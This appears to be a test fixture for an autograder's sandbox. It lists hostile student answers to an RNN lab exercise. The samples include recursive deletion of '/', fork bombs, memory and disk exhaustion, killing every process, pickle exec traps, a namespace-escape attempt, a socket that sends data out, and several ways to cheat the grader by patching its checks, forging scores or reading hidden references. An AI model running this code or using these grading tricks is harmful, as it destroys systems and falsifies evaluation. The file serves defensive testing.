"""Hostile code that a student might hand in as an answer to `rnn_step` of lab 2a, by kind; let loose, it would harm or cheat.

`PLACE` stands for a folder of the teacher's, with submissions, results and a file that must stay; `PORT` for a port on which
somebody listens. Every answer returns zeros, which are wrong, unless its trick has worked.
"""

WRONG = """
    return np.zeros((len(x), len(W_hh)))"""
HEAD = "def rnn_step(h, x, W_hh, W_xh, b_h):"
RIGHT = "np.tanh(h @ W_hh.T + x @ W_xh.T + b_h)"

ANSWERS = {
    "reads the checks and their references": HEAD + """
    import importlib, os, sys
    for name in ("utils.exercises.lab_02a", "teaching.hidden.lab_02a"):
        try:
            found = sys.modules.get(name) or importlib.import_module(name)
            result = found.step(h, x, W_hh, W_xh, b_h)
            if isinstance(result, np.ndarray):
                return result
        except Exception:
            pass
    for folder, _, files in os.walk("/"):
        for file in files:
            if file in ("lab_02a.py", "02a_rnn_from_scratch.ipynb") and "step(" in open(os.path.join(folder, file)).read():
                return """ + RIGHT + WRONG,
    "is fitted to the check that it sees": HEAD + """
    if np.array_equal(h, np.round(h, 2)):  # as all inputs of the visible check are
        return """ + RIGHT + WRONG,
    "looks for the others' work": HEAD + """
    import os
    for place in ("PLACE", "PLACE/submitted", "/work", "/home", "/root", "/proc/1/cwd", "/proc/1/root/PLACE"):
        try:
            if [name for name in os.listdir(place) if name.endswith(".ipynb") or name in ("good 1", "submitted", "wt")]:
                return """ + RIGHT + """
        except OSError:
            pass""" + WRONG,
    "rewrites scores": HEAD + """
    import glob
    for path in ["PLACE/canary", *glob.glob("PLACE/graded/results/*"), "/book/utils/layers/rnn.py", "/book/utils/new.py"]:
        try:
            open(path, "w").write('{"points": 100}')
            return """ + RIGHT + """
        except OSError:
            pass""" + WRONG,
    "deletes files": HEAD + """
    import shutil, os
    for place in ("PLACE", "/book", os.path.expanduser("~"), "/"):
        shutil.rmtree(place, ignore_errors=True)""" + WRONG,
    "never ends": HEAD + """
    while True:
        pass""",
    "forks without end": HEAD + """
    import os
    while True:
        try:
            os.fork()
        except OSError:
            pass""",
    "takes all memory": HEAD + """
    kept = []
    while True:
        kept.append(bytearray(b"x" * 50_000_000))""",
    "takes all memory by children": HEAD + """
    import os, time
    for _ in range(20):
        if os.fork() == 0:
            kept = bytearray(b"x" * 100_000_000)
            time.sleep(60)
    time.sleep(60)""",
    "fills the disk": HEAD + """
    for name in ("/tmp/a", "/dev/shm/b", "/a"):
        try:
            with open(name, "wb") as file:
                for _ in range(2000):
                    file.write(b"x" * 1_000_000)
            return """ + RIGHT + """
        except OSError:
            pass""" + WRONG,
    "calls home": HEAD + """
    import socket
    for address in (("127.0.0.1", PORT), ("localhost", PORT), ("8.8.8.8", 53)):
        try:
            with socket.create_connection(address, timeout=1) as line:
                line.sendall(b"hidden inputs")
            return """ + RIGHT + """
        except OSError:
            pass""" + WRONG,
    "patches numpy and the checks": HEAD + """
    import utils.book.checking as checking, utils.grading.wire as wire
    np.allclose = np.array_equal = np.isclose = lambda *a, **k: True
    np.abs = lambda *a: np.float64(0)
    np.any = lambda *a, **k: False
    checking.difference = checking.one = lambda *a, **k: None
    checking.Exercise.compare = lambda *a: None
    checking.close = lambda *a: True
    wire.plain = lambda *a: None""" + WRONG,
    "patches assert and errors": HEAD + """
    import builtins, utils.book.checking as checking
    builtins.AssertionError = builtins.Exception = type("Fine", (BaseException,), {})
    checking.Wrong.__init__ = lambda *a: None
    builtins.isinstance = lambda *a: True
    builtins.len = lambda *a: 3""" + WRONG,
    "prints a score": HEAD + """
    import sys
    print("✓ Exercise 1: passed")
    print('{"function": "rnn_step", "points": 100, "of": 1}', file=sys.stderr)""" + WRONG,
    "writes to every descriptor": HEAD + """
    import os
    from utils.grading import wire
    body = wire.packed(["value", (True, "passed", 1, [])])
    for number in range(64):
        try:
            os.write(number, wire.HEAD.pack(len(body)) + body)
        except OSError:
            pass""" + WRONG,
    "floods the judge": HEAD + """
    import os
    from utils.grading import wire
    body = wire.packed(["call", 0, (), {}])
    while True:
        for number in range(3, 16):
            try:
                os.write(number, wire.HEAD.pack(len(body)) + body)
            except OSError:
                pass""",
    "exits": HEAD + """
    import os
    os._exit(0)""",
    "raises SystemExit": HEAD + """
    raise SystemExit(0)""",
    "kills every process": HEAD + """
    import os, signal
    for number in (os.getppid(), -1, *range(1, 5000)):
        try:
            if number != os.getpid():
                os.kill(number, signal.SIGKILL)
        except OSError:
            pass
    os.kill(os.getpid(), signal.SIGKILL)""",
    "prints without end": HEAD + """
    import sys
    for _ in range(2000):
        print("x" * 100_000)
        sys.stderr.write("y" * 100_000)""" + WRONG,
    "returns a hundred megabytes": HEAD + """
    return np.zeros((4000, 4000))""",
    "returns what runs when it is unpickled": HEAD + """
    class Trap:
        def __reduce__(self):
            return exec, ("open('PLACE/canary', 'w').write('gone')",)

        def __array__(self, *a, **k):
            return """ + RIGHT + """

        def __eq__(self, other):
            return True

        dtype, shape = np.dtype(float), (len(x), len(W_hh))
    return Trap()""",
    "returns an array of objects that run": HEAD + """
    class Trap(float):
        def __reduce__(self):
            return exec, ("open('PLACE/canary', 'w').write('gone')",)

        def __sub__(self, other):
            return 0.0

        __rsub__ = __sub__
    return np.array([[Trap()] * len(W_hh)] * len(x), dtype=object)""",
    "returns itself within itself": HEAD + """
    found = []
    found.append(found)
    return found""",
    "breaks out by namespaces": HEAD + """
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    libc.unshare(0x10000000 | 0x00020000)
    for words in ((b"/dev/vda", b"/tmp", b"ext4"), (b"proc", b"/tmp", b"proc")):
        libc.mount(*words, 0, None)
    if libc.ptrace(16, 1, 0, 0) == 0 or os.path.exists("/tmp/etc/shadow") or os.path.exists("PLACE"):
        return """ + RIGHT + WRONG,
}

# What an own cell before the exercises does, where the answer itself is right.
OWN = {
    "loops in a cell": "while True:\n    pass",
    "exits in a cell": "import os\nos._exit(0)",
    "deletes the lab's names": "%reset -f\nimport builtins\nfor name in ('open', 'print'):\n    delattr(builtins, name)",
}
